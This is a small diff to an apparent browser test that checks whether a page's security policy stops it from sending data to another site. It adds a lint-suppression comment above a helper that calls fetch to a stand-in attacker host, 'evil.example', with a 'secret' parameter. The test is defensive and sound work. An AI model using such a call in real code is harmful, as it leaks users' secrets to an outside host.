@@ -128,6 +128,7 @@ test("the API's and the developers' pages keep their policy, and what breaks one
 
 /** Whether the page can send data to another site. */
 async function sendElsewhere(): Promise<string> {
+  // biome-ignore lint/style/noRestrictedGlobals: it runs in the page, which must not be allowed to.
   return fetch("https://evil.example/?secret=1").then(
     () => "sent",
     () => "refused",
